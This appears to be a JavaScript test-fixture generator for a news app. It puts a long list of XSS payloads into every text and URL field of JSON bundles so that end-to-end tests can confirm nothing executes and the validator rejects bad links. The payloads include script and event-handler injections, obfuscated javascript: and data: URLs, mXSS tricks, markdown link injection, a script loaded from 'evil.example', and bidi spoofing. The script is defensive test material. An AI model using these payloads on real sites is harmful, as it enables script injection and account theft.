// Hostile strings for every text and URL field of a bundle, and the bundles that carry them.
// tests/e2e/xss.test.mjs serves these bundles to the app and checks that nothing runs and no
// dangerous attribute reaches the DOM. Every payload that could run tries to set
// `window.__xss = true` or call alert().
//
//   node scripts/xss-corpus.mjs OUT_DIR   writes OUT_DIR/valid/zh/n/xss-*.json (they must render)
//                                         and OUT_DIR/refused/zh/n/xss-*.json (the format refuses
//                                         them), e.g. for `bundle check` or `bundle site`.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';

export const SEED_PATH = 'public/data/zh/n/anthropic-alibaba-claude-distillation.json';
const JS = 'window.__xss=true;alert(1)';

export const PAYLOADS = [
  // Markup. The app never makes HTML from data, so these must show as the characters they are.
  `<script>${JS}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${JS}">`,
  `<img src="x" ONERROR=${JS}//`,
  `"><img src=x onerror=${JS}>`,
  `'><svg onload=${JS}>`,
  `<body onload="${JS}">`,
  `<details open ontoggle="${JS}">`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<object data="javascript:${JS}"></object><embed src="javascript:${JS}">`,
  `<form action="javascript:${JS}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<base href="javascript:/"><a href="/x">x</a>`,
  `<style>@import 'javascript:${JS}';</style><link rel=stylesheet href="javascript:${JS}">`,
  `<!--<script>${JS}</script>--><![CDATA[<script>${JS}</script>]]>`,
  `&lt;script&gt;${JS}&lt;/script&gt;`,
  `{{constructor.constructor('${JS}')()}}\${${JS}}`,
  // SVG and MathML, including namespace confusion (mXSS).
  `<svg><script>${JS}</script></svg>`,
  `<svg><a xlink:href="javascript:${JS}"><text x="0" y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${JS}">`,
  `<math href="javascript:${JS}">CLICK</math>`,
  `<svg><foreignObject><iframe src="javascript:${JS}"></iframe></foreignObject></svg>`,
  // URLs with dangerous schemes, and the tricks that hide the scheme from naive checks.
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  ` \tjavascript:${JS}`,
  `java\tscript:${JS}`,
  `java\nscript:${JS}`,
  `\u0001javascript:${JS}`,
  `javascript\u0000:${JS}`,
  `javascript&#58;${JS}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS}`,
  `&#x6A;avascript&colon;${JS}`,
  `%6A%61%76%61%73%63%72%69%70%74:${JS}`,
  `data:text/html,<script>${JS}</script>`,
  `DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9dHJ1ZTwvc2NyaXB0Pg==`,
  ` data:image/svg+xml,<svg onload="${JS}">`,
  `vbscript:msgbox(1)`,
  `VbScRiPt:msgbox(1)`,
  `//evil.example/x`,
  `/\\evil.example/x`,
  `https://trusted.example@evil.example/`,
  `https://example.com/"onmouseover="${JS}`,
  `https://example.com/#"><script>${JS}</script>`,
  `https://example.com/\u200Bjavascript:${JS}`,
  // Markdown: inline links, autolinks, reference links and images with hostile targets.
  `[click](javascript:${JS})`,
  `[click](JAVASCRIPT:${JS} "t")`,
  `[click](<javascript:${JS}>)`,
  `[click]( javascript:${JS})`,
  `[click](data:text/html,<script>${JS}</script>)`,
  `<javascript:${JS}>`,
  `<VBSCRIPT:msgbox(1)>`,
  `[click][r]\n\n[r]: javascript:${JS}`,
  `![x](javascript:${JS})`,
  `[x](https://example.com/"onmouseover="${JS})`,
  `**[x](javascript:${JS})**`,
  // Bidirectional controls: an outlet name that reads as another.
  `\u202Ereuters.com\u202C`,
  `\u2066Reuters\u2069 \u202Dmoc.evil\u202C`,
];

/** Control characters the validator refuses in names (bidi overrides and isolates). */
export const hasBidi = (s) => /[\u202A-\u202E\u2066-\u2069]/.test(s);

/** Markdown that would become a link. In `summary` the validator refuses any link target that is
 *  not http(s) or an app route, so such payloads go there only in the link bundles. */
const linky = (s) => /\]\(|\]\[|\]:|<[a-z][a-z0-9+.-]{1,31}:/i.test(s);

/** Every hostile variant a URL field gets from one payload. */
const asLinks = (p) => [`[x](${p})`, `<${p}>`];

/**
 * The bundles that carry `payloads`, built from the seed bundle, each
 * `{ slug, bundle, expect }` with expect 'event' (it must render) or 'invalid' (it must show the
 * validation error view, which lists the payloads as text).
 *
 * - text-N: a group of payloads in every text field: title, dek, heads, summary,
 *   why_it_matters, watch, lens names, outlet, region, take summary, quote, related title and
 *   entity name, and in why_it_matters and watch (inline markdown whose links are not validated)
 *   also as markdown links and autolinks. URLs stay valid, so the event renders.
 * - type-N: payload N as the type, which holds one at most (refused when over 100 characters).
 * - bidi: the payloads with bidi controls in every text field; the validator refuses them.
 * - link-N: one payload in every URL field: canonical_url, each take's url, summary as a
 *   markdown link and an autolink, a related slug and an entity slug. No payload here is an
 *   http(s) URL the validator accepts, so each of these is refused.
 */
export function buildBundles(seed, payloads = PAYLOADS, groupSize = 15) {
  const out = [];
  const plain = payloads.filter((p) => !hasBidi(p));
  for (let g = 0; g * groupSize < plain.length; g++) {
    out.push({ slug: `xss-text-${g}`, expect: 'event', bundle: textBundle(seed, `xss-text-${g}`, plain.slice(g * groupSize, (g + 1) * groupSize)) });
  }
  // The type holds one payload, and only one of at most 100 characters (MAX_TYPE_CHARS): the
  // validator refuses the longer ones.
  plain.forEach((p, i) => {
    const b = structuredClone(seed);
    Object.assign(b, { slug: `xss-type-${i}`, type: p });
    out.push({ slug: `xss-type-${i}`, expect: [...p].length <= 100 ? 'event' : 'invalid', bundle: b });
  });
  const bidi = payloads.filter(hasBidi);
  if (bidi.length) out.push({ slug: 'xss-bidi', expect: 'invalid', bundle: textBundle(seed, 'xss-bidi', bidi) });
  payloads.forEach((p, i) => out.push({ slug: `xss-link-${i}`, expect: 'invalid', bundle: linkBundle(seed, `xss-link-${i}`, p) }));
  return out;
}

function textBundle(seed, slug, payloads) {
  const b = structuredClone(seed);
  const joined = payloads.join(' ');
  const paragraphs = (ps) => ps.join('\n\n');
  Object.assign(b, { slug, title: joined, dek: joined });
  b.heads = [...b.heads, ...payloads];
  const unlinked = payloads.filter((p) => !linky(p));
  b.summary = paragraphs([b.summary, ...unlinked,
    ...unlinked.map((p, i) => `[${p.replace(/[[\]]/g, '')}](/zh/entity/xss-entity-${i})`)]);
  b.why_it_matters = paragraphs([b.why_it_matters, ...payloads, ...payloads.flatMap(asLinks)]);
  b.watch = [...b.watch, ...payloads, ...payloads.flatMap(asLinks)];
  b.lenses = [...b.lenses, ...payloads.map((p, i) => ({
    name: p,
    takes: [{ outlet: p, region: p, lang: 'en', summary: p, quote: p, url: `https://example.com/take-${i}` }],
  }))];
  b.related = [...b.related, ...payloads.map((p, i) => ({ slug: `xss-related-${i}`, title: p }))];
  b.entities = [...b.entities, ...payloads.map((p, i) => ({ slug: `xss-entity-${i}`, name: p }))];
  return b;
}

function linkBundle(seed, slug, payload) {
  const b = structuredClone(seed);
  b.slug = slug;
  b.canonical_url = payload;
  for (const lens of b.lenses) for (const take of lens.takes) take.url = payload;
  b.summary = `${b.summary}\n\n${asLinks(payload).join(' ')}`;
  b.related = [...b.related, { slug: payload, title: 'related' }];
  b.entities = [...b.entities, { slug: payload, name: 'entity' }];
  return b;
}

/**
 * Writes the corpus as bundle files: the ones that must render under `dir/valid/zh/n/` (a
 * collection `bundle site` builds into documents) and the ones the format refuses under
 * `dir/refused/zh/n/` (`bundle check` names their problems; tests make their documents with
 * crates/format's `unchecked_doc` example). Returns what `buildBundles` built.
 */
export async function writeCorpus(dir, seed) {
  const built = buildBundles(seed ?? await readSeed());
  for (const folder of ['valid', 'refused']) await mkdir(join(dir, folder, 'zh/n'), { recursive: true });
  for (const { slug, bundle, expect } of built) {
    const folder = expect === 'event' ? 'valid' : 'refused';
    await writeFile(join(dir, folder, 'zh/n', `${slug}.json`), JSON.stringify(bundle, null, 2));
  }
  return built;
}

export async function readSeed() {
  return JSON.parse(await readFile(SEED_PATH, 'utf8'));
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const dir = process.argv[2];
  if (!dir) { console.error('usage: node scripts/xss-corpus.mjs OUT_DIR'); process.exit(2); }
  const built = await writeCorpus(dir);
  const valid = built.filter((b) => b.expect === 'event').length;
  console.log(`${valid} bundles to render in ${dir}/valid, ${built.length - valid} to refuse in ${dir}/refused`);
}
